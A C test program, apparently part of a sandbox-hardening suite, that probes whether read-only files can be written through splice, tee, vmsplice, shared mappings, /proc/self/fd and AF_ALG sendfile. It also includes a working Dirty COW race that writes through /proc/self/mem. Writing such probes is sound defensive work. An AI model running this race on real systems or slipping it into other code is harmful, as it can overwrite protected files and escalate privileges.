// E10: writing into the page cache of the files in argv, which may only be read.
#include <pthread.h>
#include <sys/sendfile.h>
#include <sys/uio.h>

#include "attempt.h"

static void references(const char* path) {
    int ends[2];
    char what[256], byte = 'x';
    loff_t offset = 1;
    struct iovec one = {&byte, 1};
    const int file = open(path, O_RDONLY);
    must("a pipe", pipe(ends));
    snprintf(what, sizeof(what), "splice %s", path);
    attempt(what, splice(file, &offset, ends[1], NULL, 1, 0));
    snprintf(what, sizeof(what), "tee for %s", path);
    attempt(what, tee(ends[0], ends[1], 1, 0));
    snprintf(what, sizeof(what), "vmsplice for %s", path);
    attempt(what, vmsplice(ends[1], &one, 1, 0));
    snprintf(what, sizeof(what), "shared writable map of %s", path);
    attempt(what,
            mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
    snprintf(what, sizeof(what), "write through /proc/self/fd of %s", path);
    char link[64];
    snprintf(link, sizeof(link), "/proc/self/fd/%d", file);
    attempt(what, open(link, O_RDWR));
    snprintf(what, sizeof(what), "sendfile %s into an odd family", path);
    attempt(what, sendfile(socket(AF_ALG, SOCK_SEQPACKET, 0), file, NULL, 16) < 0
                      ? (errno = EPERM, -1)
                      : 0);
    close(file);
}

// The race of Dirty COW: a private map is thrown away while it is written through /proc/self/mem.
static void* map;
static void* throw_away(void* argument) {
    for (int i = 0; i < 20000; ++i) madvise(map, 4096, MADV_DONTNEED);
    return argument;
}

static void race(const char* path) {
    const int file = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_t thread;
    pthread_create(&thread, NULL, throw_away, NULL);
    for (int i = 0; i < 20000; ++i) pwrite(memory, "dirty", 5, (off_t)(uintptr_t)map);
    pthread_join(thread, NULL);
    close(file);
    close(memory);
}

int main(int argc, char** argv) {
    for (int i = 1; i < argc; ++i) references(argv[i]);
    for (int i = 1; i < argc; ++i) race(argv[i]);
    return 0;
}
